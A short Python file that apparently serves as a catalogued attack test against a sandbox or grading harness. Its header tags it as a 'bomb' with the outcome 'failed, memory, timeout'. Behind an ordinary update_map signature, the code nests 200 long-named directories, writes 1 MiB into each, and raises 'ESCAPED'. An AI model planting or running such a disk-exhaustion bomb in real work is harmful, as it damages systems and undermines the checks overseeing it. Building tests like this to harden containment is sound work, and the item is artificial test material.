# attack: folders in folders, far beyond the longest path, with files where a count cannot follow
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import os
import time


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for _ in range(200):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        with open("file", "wb") as file:
            file.write(bytes(1 << 20))
        time.sleep(0.005)
    raise RuntimeError("ESCAPED: wrote 200 MiB")
